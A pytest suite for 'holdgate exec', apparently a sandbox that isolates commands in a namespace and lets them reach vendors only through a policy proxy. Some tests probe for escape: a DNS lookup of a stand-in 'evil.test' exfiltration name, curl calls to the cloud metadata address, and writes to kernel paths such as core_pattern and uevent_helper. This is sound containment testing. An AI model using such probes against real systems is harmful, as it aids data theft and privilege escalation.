"""`holdgate exec`: what a command sees, what it cannot do, how it ends. As a user of ours and as root."""

from __future__ import annotations

import fcntl
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import termios
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from pathlib import Path

import pytest

from behind import Bench
from holdgate.demo.instance import Instance
from holdgate.demo.standins import StandIns
from netlab import PROBES
from programs import build

type Done = subprocess.CompletedProcess[str]
type Watch = Callable[[], AbstractContextManager[None]]


def namespaces_work() -> bool:
    probe = "import os; os.unshare(os.CLONE_NEWNET | os.CLONE_NEWUSER)"
    return subprocess.run([sys.executable, "-c", probe], check=False, capture_output=True).returncode == 0


pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        not namespaces_work() and os.environ.get("CI") != "true", reason="needs user namespaces, or root"
    ),
]
READ = "import sys; print(open(sys.argv[1]).read())"


class Exec:
    def __init__(self, gate: Instance) -> None:
        self.gate = gate

    def words(self, *command: str, options: tuple[str, ...] = ()) -> list[str]:
        return [*self.gate.command("exec"), *options, "--", *command]

    def run(
        self, *command: str, options: tuple[str, ...] = (), stdin: str = ""
    ) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            self.words(*command, options=options),
            input=stdin,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )

    def python(self, script: str, *words: str) -> str:
        done = self.run(sys.executable, "-c", PROBES + script, *words)
        return (done.stdout + done.stderr).strip()

    def start(self, *command: str) -> subprocess.Popen[str]:
        return subprocess.Popen(
            self.words(*command),
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )


@pytest.fixture(scope="module")
def inside(gate: Instance) -> Exec:
    return Exec(gate)


def running(marker: str) -> list[str]:
    listed = subprocess.run(["ps", "axww", "-o", "args="], capture_output=True, text=True, check=True).stdout
    return [line for line in listed.splitlines() if marker in line]


def gone(marker: str) -> bool:
    end = time.monotonic() + 60
    while running(marker) and time.monotonic() < end:
        time.sleep(0.05)  # what is waited for is another process's end, which nobody tells us
    return not running(marker)


# --- the namespace ---


def test_xn1_there_is_no_device_but_loopback_and_nothing_answers(inside: Exec, nothing_seen: Watch) -> None:
    with nothing_seen():
        assert inside.python("print([name for _, name in socket.if_nameindex()])") == "['lo']"
        said = inside.python(
            "for h in ('203.0.113.9', '2001:db8:9::9', '127.0.0.1'):\n"
            "  print({tcp(h, p) for p in (22, 25, 853, 9090)} | {udp(h, p, wait=.2) for p in (9, 443, 853)})"
        )
    assert said.splitlines() == ["{'ConnectionRefusedError'}"] * 3


def test_xn2_the_command_has_no_capability_and_gains_none(inside: Exec) -> None:
    status = dict(
        line.split(":\t") for line in inside.python(READ, "/proc/self/status").splitlines() if ":\t" in line
    )
    for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert int(status[name], 16) == 0, name
    assert status["NoNewPrivs"] == "1"
    done = inside.run("sh", "-c", "ip link add x0 type dummy; mount -t tmpfs x /mnt; true")
    assert done.stderr.count("not permitted") + done.stderr.count("denied") == 2, done.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="others may not write there in any case")
def test_xn2_what_uid_0_may_write_without_a_capability_is_read_only(inside: Exec) -> None:
    for name in ("/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/proc/sysrq-trigger"):
        if Path(name).exists():
            assert "Read-only file system" in inside.python("open(sys.argv[1], 'a')", name), name


@pytest.mark.parametrize("victim", ["outside", "keeper", "init"])
def test_xn3_when_one_of_the_processes_is_killed_nothing_is_left(inside: Exec, victim: str) -> None:
    marker = f"86{os.getpid()}{len(victim)}"
    process = inside.start("sh", "-c", f"sleep {marker} & echo up; wait")
    assert process.stdout is not None and process.stdout.readline() == "up\n"

    def child(pid: int) -> int:
        return int(Path(f"/proc/{pid}/task/{pid}/children").read_text().split()[0])

    pid = process.pid
    for _ in range({"outside": 0, "keeper": 1, "init": 2}[victim]):
        pid = child(pid)
    os.kill(pid, signal.SIGKILL)
    assert process.wait(timeout=60) in (-signal.SIGKILL, 137)
    process.communicate()
    assert gone(f"sleep {marker}")


def test_xn3_what_the_command_left_running_ends_with_it(inside: Exec) -> None:
    marker = f"87{os.getpid()}"
    assert inside.run("sh", "-c", f"setsid sleep {marker} >/dev/null 2>&1 & exit 0").returncode == 0
    assert gone(f"sleep {marker}")


def test_xn4_keys_are_hidden_and_what_decides_is_read_only(inside: Exec) -> None:
    state = inside.gate.state_dir
    assert (state / "keys").is_dir()
    assert inside.python("print(sorted(os.listdir(sys.argv[1])))", str(state)) in ("[]", "['ca', 'overlays']")
    for path in (inside.gate.config, inside.gate.folder / "policies" / "x.yaml"):
        assert "Read-only file system" in inside.python("open(sys.argv[1], 'a')", str(path))
    door = state / "run" / "exec.sock"
    assert door.exists() and "FileNotFoundError" in inside.python("os.stat(sys.argv[1])", str(door))


def test_exec_inside_exec_is_refused(inside: Exec) -> None:
    done = inside.run(*inside.gate.command("exec"), "--", "true")
    assert done.returncode == 2


# --- like `time` ---


@pytest.mark.parametrize(
    ("command", "code"),
    [
        pytest.param(["true"], 0, id="success"),
        pytest.param(["sh", "-c", "exit 7"], 7, id="its own code"),
        pytest.param(["sh", "-c", "kill -9 $$"], 137, id="killed"),
        pytest.param(["sh", "-c", "kill -TERM $$"], 143, id="terminated"),
        pytest.param(["no-such-command"], 127, id="not there"),
        pytest.param(["/etc/hostname"], 126, id="not runnable"),
    ],
)
def test_xr2_the_exit_code_is_the_commands(inside: Exec, command: list[str], code: int) -> None:
    assert inside.run(*command).returncode == code


CATCHES = """
import signal, sys
signal.signal(int(sys.argv[1]), lambda number, _: sys.exit(40 + number))
print("up", flush=True)
signal.pause()
"""


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1])
def test_xr2_signals_reach_the_command(inside: Exec, number: signal.Signals) -> None:
    process = inside.start(sys.executable, "-c", CATCHES, str(int(number)))
    assert process.stdout is not None and process.stdout.readline() == "up\n"
    process.send_signal(number)
    assert process.wait(timeout=60) == 40 + number
    process.communicate()


def test_standard_input_and_output_are_the_callers(inside: Exec) -> None:
    done = inside.run("sh", "-c", "cat; echo bad >&2", stdin="one\ntwo\n")
    assert (done.stdout, done.stderr, done.returncode) == ("one\ntwo\n", "bad\n", 0)


COUNTS = """
import signal, sys, time
seen = []
signal.signal(signal.SIGINT, lambda *_: seen.append(1))
print(sys.stdin.isatty(), flush=True)
time.sleep(1.5)  # a second signal would come from another process: nothing to wait for
print("interrupted", len(seen))
"""


def test_a_terminal_stays_a_terminal_and_ctrl_c_is_one_signal(inside: Exec) -> None:
    terminal, theirs = os.openpty()
    process = subprocess.Popen(
        inside.words(sys.executable, "-c", COUNTS),
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
        start_new_session=True,
        preexec_fn=lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 0),
    )
    os.close(theirs)
    said = b""
    while b"True" not in said:
        said += os.read(terminal, 1024)
    os.write(terminal, b"\x03")
    try:
        while piece := os.read(terminal, 1024):
            said += piece
    except OSError:  # the other side is closed
        pass
    os.close(terminal)
    assert process.wait(timeout=60) == 0
    assert b"interrupted 1" in said, said


# --- the proxy inside ---

STRIPE = """
import stripe
stripe.api_key = "sk_test_demo"
for amount in (%d, 900_000):
    try:
        print("OK", stripe.Refund.create(payment_intent=%r, amount=amount).id[:3])
    except stripe.StripeError as error:
        print(type(error).__name__, "deny_rule" in str(error))
"""


def test_stripe_python_that_knows_no_variable_works_unmodified(inside: Exec, vendors: StandIns) -> None:
    intent = vendors.stripe.charged(100_000)
    assert inside.python(STRIPE % (501, intent)).splitlines() == ["OK re_", "PermissionError True"]


def test_boto3_works_unmodified(inside: Exec) -> None:
    """A refusal that boto3 could read went through its own TLS verification."""
    script = """
import boto3
keys = {"aws_access_key_id": "AKIDEXAMPLE", "aws_secret_access_key": "s"}
try:
    boto3.client("s3", region_name="eu-central-1", **keys).list_buckets()
except boto3.exceptions.botocore.exceptions.ClientError as error:
    print(error)
"""
    assert "(AccessDenied)" in (said := inside.python(script)) and "Holdgate SILENCE" in said


FETCH = """
const [intent, amount] = process.argv.slice(1);
const headers = {Authorization: "Bearer sk_test_demo"};
const body = new URLSearchParams({payment_intent: intent, amount});
fetch("https://api.stripe.com/v1/refunds", {method: "POST", headers, body})
  .then(r => console.log(r.status, r.headers.get("holdgate-decision").slice(0, 6)))
  .catch(e => console.log(e, e.cause));
"""


def client(name: str, folder: Path) -> list[str]:
    """A command that takes an intent and an amount, and prints status and decision."""
    if name in ("java", "go"):
        return build(name, folder)
    tool = shutil.which(name)
    if tool is None:
        pytest.skip(f"needs {name}")
    if name == "node":
        return [tool, "-e", FETCH]
    form = '-d payment_intent="$1" -d amount="$2" -H "Authorization: Bearer sk_test_demo"'
    show = "-sS -o /dev/null -w '%{http_code} %header{holdgate-decision}'"
    return ["sh", "-c", f"curl {show} {form} https://api.stripe.com/v1/refunds | cut -c1-10", "-"]


@pytest.mark.parametrize("name", ["curl", "node", "java", "go"])
def test_other_clients_work_unmodified(inside: Exec, vendors: StandIns, tmp_path: Path, name: str) -> None:
    command = client(name, tmp_path)
    intent = vendors.stripe.charged(100_000)
    done = inside.run(*command, intent, "510")
    assert done.stdout.strip() == "200 PERMIT", done.stdout + done.stderr
    before = vendors.counts("stripe")
    assert inside.run(*command, intent, "900000").stdout.strip() == "403 DENY;i"
    assert (vendors.counts("stripe") - before).nothing


def test_receipts_name_the_agent_that_was_started(inside: Exec, bench: Bench) -> None:
    inside.run("curl", "-s", "http://169.254.169.254/latest")
    listed = bench.holdgate("receipts", "list", "--json").stdout
    assert '"demo-agent"' in listed
    unknown = inside.run("true", options=("--agent", "nobody"))
    assert unknown.returncode == 2 and "no agent 'nobody'" in unknown.stderr


def test_names_that_no_map_has_do_not_exist_inside(inside: Exec, nothing_seen: Watch) -> None:
    with nothing_seen():
        said = inside.python("print(socket.getaddrinfo('c2VjcmV0.evil.test', 443))")
    assert "Name or service not known" in said


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root")
def test_root_can_give_the_command_another_user(inside: Exec) -> None:
    done = inside.run("sh", "-c", "id -u; cat $SSL_CERT_FILE | grep -c BEGIN", options=("--user", "nobody"))
    uid, certificates = done.stdout.split()
    assert uid == "65534" and int(certificates) > 100
    assert inside.run("true", options=("--user", "root")).returncode == 2


# --- without `run` ---


@pytest.fixture
def alone(vendors: StandIns, tmp_path: Path) -> Iterator[Instance]:
    made = Instance(tmp_path / "gate", connect_to=vendors.connect_to())
    yield made
    made.stop()


def test_xr1_without_run_nothing_is_started(alone: Instance, tmp_path: Path) -> None:
    done = Exec(alone).run("touch", str(tmp_path / "ran"))
    assert done.returncode == 2 and "`holdgate run` is not running" in done.stderr
    assert not (tmp_path / "ran").exists()


def test_xr3_a_gate_that_comes_back_serves_the_namespace_again(alone: Instance) -> None:
    alone.start()
    script = """
for line in sys.stdin:
    try:
        with socket.create_connection(("api.stripe.com", 80), timeout=60) as sock:
            sock.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"); sock.settimeout(float(line))
            print(sock.recv(12), flush=True)
    except OSError as error: print(type(error).__name__, flush=True)
"""
    process = Exec(alone).start(sys.executable, "-c", PROBES + script)
    assert process.stdin is not None and process.stdout is not None

    def ask(seconds: int) -> str:
        process.stdin.write(f"{seconds}\n")
        process.stdin.flush()
        return process.stdout.readline().strip()

    assert ask(15) == "b'HTTP/1.1 403'"
    alone.kill()
    assert ask(1) in ("TimeoutError", "gaierror")
    alone.start()
    assert ask(15) == "b'HTTP/1.1 403'"
    process.communicate(timeout=60)
    assert process.returncode == 0


# --- without root ---

# Not root in any way; the one capability only lets the process read an interpreter in somebody else's home.
AS_NOBODY = (
    *("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"),
    *(f"--{which}-caps=-all,+dac_read_search" for which in ("inh", "ambient")),
    "--bounding-set=-all,+dac_read_search",
)


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("setpriv") is None, reason="needs root and setpriv")
def test_a_user_who_is_not_root_can_do_it(vendors: StandIns) -> None:
    with tempfile.TemporaryDirectory() as folder:  # pytest's own folders are closed to others
        made = Instance(Path(folder) / "gate", connect_to=vendors.connect_to())
        for path in (Path(folder), *Path(folder).rglob("*")):
            os.chown(path, 65534, 65534)
        server = subprocess.Popen([*AS_NOBODY, *made.command("run")], stdout=subprocess.PIPE, text=True)
        try:
            assert server.stdout is not None
            assert "ready\n" in iter(server.stdout.readline, "")
            show = "id -u; curl -sS -o /dev/null -w '%{http_code}' http://169.254.169.254/"
            done = subprocess.run(
                [*AS_NOBODY, *Exec(made).words("sh", "-c", show)],
                capture_output=True,
                text=True,
                timeout=60,
                check=False,
            )
        finally:
            server.terminate()
            server.communicate(timeout=60)
    assert done.stdout.split() == ["65534", "403"], done.stderr
